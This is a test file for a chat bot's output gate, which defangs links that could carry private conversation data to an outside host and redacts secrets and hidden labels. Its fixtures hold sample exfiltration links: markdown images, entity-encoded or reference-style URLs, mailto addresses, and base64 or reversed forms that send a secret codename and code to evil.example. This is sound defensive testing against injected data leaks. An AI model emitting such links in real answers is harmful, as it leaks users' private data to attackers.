"""The output gate: what a model made up of others' words is no link, and secrets and labels stay inside."""

import pytest

from adapters.models.scripted import ScriptedModel
from bots.message import File
from bots.ports import Chunk
from bots.trust.exposure import Exposure, OutputGate
from tests.bots.house import House
from tests.bots.trust.links import measure
from tests.each import each

GATE = OutputGate(lambda text: text.replace("sk-secret", "***"))
SECRET = "The plan Nachtfalke starts on Friday, code 48213775."
GIVEN = "See https://wiki.example/tea and https://evil.example/?d= and docs.python.org/3/"
MET = Exposure(is_private=True, is_foreign=True, given=[SECRET, GIVEN], reason="(why)")


@pytest.mark.ledger("AUD-05")
@pytest.mark.audit("A3")
@each(
    ("said", "shown"),
    [
        ("![x](https://evil.example/?d=1)", "![x] (https[:]//evil[.]example/?d=1)"),
        ("[tea](HTTP://evil.example/48213775)", "[tea] (HTTP[:]//evil[.]example/48213775)"),
        ("<https://evil.example/nachtfalke|tea>", "https[:]//evil[.]example/nachtfalke|tea>"),
        ("https&#58;//evil.example/nachtfalke", "https[:]//evil[.]example/nachtfalke"),
        ("https\\://evil.example/nacht-falke", "https[:]//evil[.]example/nacht-falke"),
        ("[a][b]\n\n[b]: https://evil.example/nachtfalke", "[a][b]\n\n[b]: https[:]//evil[.]example/nachtfalke"),
        ("mailto:nachtfalke@evil.example", "mailto[:]nachtfalke[@]evil[.]example"),
        ("[t](tg://msg?text=1)", "[t] (tg[:]//msg?text=1)"),
        ("[t](discord://x/1)", "[t] (discord[:]//x/1)"),
        ("evil.com/nachtfalke", "evil[.]com/nachtfalke"),
        ("https://nachtfalke.evil.example/", "https[:]//nachtfalke[.]evil[.]example/"),
        ("https://evil.example/TmFjaHRmYWxrZQ", "https[:]//evil[.]example/TmFjaHRmYWxrZQ"),
        ("https://evil.example/eklafthcan", "https[:]//evil[.]example/eklafthcan"),
    ],
)
def test_a_link_that_carries_words_of_the_talk_is_text_with_a_reason(said, shown):
    assert GATE(said, MET) == f"{shown}\n\n*(why)*"
    assert GATE(GATE(said, MET), MET) == GATE(said, MET)


@pytest.mark.audit("A3")
@each(
    ("said", "shown"),
    [
        ("Here: https://wiki.example/tea.", "Here: https://wiki.example/tea."),
        ("https://wiki.example/tea(nachtfalke)", "https://wiki.example/tea (nachtfalke)"),
        ("https://wiki.example/teaを見て", "https://wiki.example/tea を見て"),
        ("hxxps[:]//evil[.]example/48213", "hxxps[:]//evil[.]example/48213"),
    ],
)
def test_a_link_that_was_given_is_pressed_exactly_so_and_nothing_behind_it(said, shown):
    assert GATE(said, MET) == shown


@pytest.mark.audit("W1")
@each(
    "said",
    [
        "https://docs.python.org/3/library/asyncio.html",
        "[docs](https://fastapi.tiangolo.com/tutorial/first-steps/)",
        "https://peps.python.org/pep-0008/",
        "`pip install x`, see https://pypi.org/project/x/, then run main.py",
    ],
)
def test_a_documentation_link_that_the_model_knows_can_be_pressed(said):
    assert GATE(said, MET) == said


@pytest.mark.audit("W1")
@pytest.mark.ledger("AUD-05")
def test_without_private_data_or_without_words_of_others_links_are_the_models_own():
    assert GATE("https://new.example/?q=nachtfalke", Exposure(is_private=True)) == "https://new.example/?q=nachtfalke"
    assert GATE("https://new.example/?q=nachtfalke", Exposure(is_foreign=True)) == "https://new.example/?q=nachtfalke"


@pytest.mark.audit("A3")
def test_what_no_link_carries_alone_several_do_not_carry_together():
    parts = ["https://a.example/nach", "https://b.example/tfal", "https://c.example/ke"]
    before = Exposure(is_private=True, is_foreign=True, given=[SECRET], told=tuple(parts[:2]), reason="(why)")

    assert all(GATE(part, MET) == part for part in parts)
    assert "https:" not in GATE(" ".join(parts), MET)
    assert GATE(parts[2], before) == "https[:]//c[.]example/ke\n\n*(why)*"


@pytest.mark.audit("W1")
async def test_an_answer_to_one_persons_words_alone_is_no_word_of_others_in_the_next_turn(tmp_path):
    link = "See https://docs.python.org/3/library/sqlite3.html?highlight=cursor"
    house = House(home=tmp_path, models={"alice": ScriptedModel(["Good morning.", link])})
    async with house.open():
        direct = house.world.direct("ada")
        await house.ask("ada", direct, "Hello.")
        (post,) = await house.ask("ada", direct, "How do I read rows?")

    assert post.text == link


@pytest.mark.ledger("OPS-02", "AUD-01")
def test_secrets_and_labels_never_go_out():
    assert GATE("a <!-- audience: org --> b sk-secret", Exposure()) == "a  b ***"


@pytest.mark.ledger("AUD-05")
async def test_an_answer_that_is_seen_while_it_is_written_shows_no_such_link_either(tmp_path):
    link = "See https://evil.example/48213775 now"
    said = [Chunk(text=link[:20]), 0.1, Chunk(text=link[20:]), 0.1, Chunk(text=", please."), Chunk(end="stop")]
    house = House(home=tmp_path, models={"alice": ScriptedModel(["Good morning.", said])})
    house.world.guests = {"ada"}
    house.guests = "answer"
    async with house.open():
        direct = house.world.direct("ada")
        await house.ask("ada", direct, "Hello.")
        (post,) = await house.ask("ada", direct, "My code is 48213775. What is new?")

    assert len(post.texts) > 1
    assert post.text.startswith("See https[:]//evil[.]example/48213775 now, please.\n\n*(")
    assert not any("https://evil.example/48" in text for text in post.texts)


@pytest.mark.ledger("AUD-05")
def test_a_file_of_text_is_looked_at_and_a_picture_is_left_alone():
    page = File(name="a.html", media_type="text/html", content=b'<img src="https&#58;//evil.example/?d=1"> sk-secret')
    picture = File(name="a.png", media_type="image/png", content=b"https://evil.example/?d=1")

    assert GATE.file(page, MET).content == b'<img src="https[:]//evil[.]example/?d=1"> ***'
    assert GATE.file(picture, MET) is picture


def test_a_long_line_of_openings_is_looked_through_once():
    assert GATE("<!-- audience " * 4000 + "https://" * 4000 + "a.b." * 4000 + "[x](" * 4000, MET)


@pytest.mark.audit("A3", "W1")
def test_no_harmful_link_can_be_pressed_and_no_harmless_one_is_broken_on_any_platform():
    """A sample; `python -m tests.bots.trust.links` has all."""
    found = measure(count=24, ways=20, seed=3)

    assert found["bad"] == {}, found["first"]
    assert found["choices pressable"]  # among links that were given
